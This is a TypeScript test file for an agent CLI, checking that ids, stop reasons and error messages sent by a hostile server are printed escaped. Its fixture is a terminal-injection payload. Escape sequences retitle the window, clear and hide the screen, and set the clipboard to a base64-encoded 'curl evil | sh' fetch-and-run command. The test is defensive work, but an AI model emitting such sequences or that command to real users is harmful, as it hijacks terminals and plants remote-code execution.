/**
 * Attacker: the server the client is pointed at (or a man in the middle on plain HTTP). The
 * model's text, tool names and error messages reach the terminal escaped, but other strings of
 * the server did not: the session and run ids (`session <id>`, `run <id>`), a finished run's
 * stop reason or status and its session id (`[run] ...`), the reason a stream was lost
 * (`[stream] lost (... 500 X: <message>)`), the run id in the note of a second Ctrl-C, and with
 * `--json` an event's data that is not JSON. Each was written to the terminal as it came: an
 * id could retitle the window (OSC 0), set the clipboard (OSC 52), clear the screen or hide
 * what follows (SGR 8).
 */
import type http from "node:http";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { startCli } from "../helpers/cli-process.js";
import { type HostileApi, runJson, sendJson, sseFrame, startHostileApi } from "../helpers/hostile-api.js";

const ESC = "\u001b";
const EVIL = `${ESC}]0;pwned${ESC}\\${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${ESC}\\${ESC}[2J${ESC}[8m`;

describe("CLI: strings of a hostile server reach the terminal", () => {
  let api: HostileApi;
  /** How the current test's server answers `GET /runs/{id}/events` (the n-th time). */
  let events: (res: http.ServerResponse, n: number) => void = () => {};
  let runId = "run_1";
  let eventRequests = 0;
  beforeAll(async () => {
    api = await startHostileApi((req, res) => {
      if (req.method === "POST" && req.url === "/sessions") return sendJson(res, 201, { id: `ses_${EVIL}` });
      if (req.method === "POST") return sendJson(res, 201, runJson({ id: runId }));
      if (req.method === "DELETE") return sendJson(res, 200, runJson({ id: runId }));
      if (req.url?.endsWith("/events")) return events(res, eventRequests++);
      sendJson(res, 404, { error: { code: "NOT_FOUND", message: "no" } });
    });
  });
  afterEach(() => {
    eventRequests = 0;
    runId = "run_1";
  });
  afterAll(async () => {
    await api?.close();
  });

  const startSse = (res: http.ServerResponse) => res.writeHead(200, { "content-type": "text/event-stream" });
  const finished = (run: Record<string, unknown>) =>
    sseFrame(1, { type: "run.finished", run: runJson({ status: "finished", ...run }) });

  it("ids, a stop reason and a lost stream's reason are shown escaped", async () => {
    runId = `run_${EVIL}`;
    events = (res, n) => {
      if (n === 0) return sendJson(res, 500, { error: { code: "INTERNAL", message: `boom${EVIL}` } });
      startSse(res);
      res.end(finished({ id: runId, stopReason: `complete${EVIL}` }));
    };
    const result = await startCli({ args: ["run", "hi"], env: { AGENT_URL: api.url }, pty: true }).done;
    expect(result.stdout).toContain("session ses_\\u001b]0;pwned");
    expect(result.stdout).toContain("run run_\\u001b]0;pwned");
    expect(result.stdout).toContain("[stream] lost (GET /runs/");
    expect(result.stdout).toContain("[run] complete\\u001b]0;pwned");
    expect(result.stdout).not.toContain(ESC);
    // An unknown stop reason is not success.
    expect(result.code).toBe(1);
  });

  it("the session id of a run that spent its turns is shown escaped", async () => {
    events = (res) => {
      startSse(res);
      res.end(finished({ stopReason: "max_turns", sessionId: `ses_${EVIL}` }));
    };
    const result = await startCli({ args: ["run", "hi"], env: { AGENT_URL: api.url }, pty: true }).done;
    expect(result.stdout).toContain("go on with --session ses_\\u001b]0;pwned");
    expect(result.stdout).not.toContain(ESC);
    expect(result.code).toBe(2);
  });

  it("the run id in the note of a second Ctrl-C is shown escaped", async () => {
    runId = `run_${EVIL}`;
    events = (res) => startSse(res); // then nothing: the run goes on
    const cli = startCli({ args: ["run", "hi"], env: { AGENT_URL: api.url }, pty: true });
    await cli.waitFor(/run run_/, "stdout");
    cli.child.stdin?.write("\u0003");
    await cli.waitFor(/cancelling/, "stdout");
    cli.child.stdin?.write("\u0003");
    const result = await cli.done;
    expect(result.stdout).toContain("[run] left without waiting for the end");
    expect(result.stdout).not.toContain(ESC);
    expect(result.code).toBe(130);
  });

  it("--json: an event's data that is not JSON is not written to the terminal as it is", async () => {
    events = (res) => {
      startSse(res);
      res.end(sseFrame(1, `not json ${EVIL}`));
    };
    const result = await startCli({ args: ["run", "--json", "hi"], env: { AGENT_URL: api.url }, pty: true }).done;
    expect(result.stdout).toContain("the server sent an event that is not JSON");
    expect(result.stdout).not.toContain(ESC);
    expect(result.code).toBe(70);
  });
});
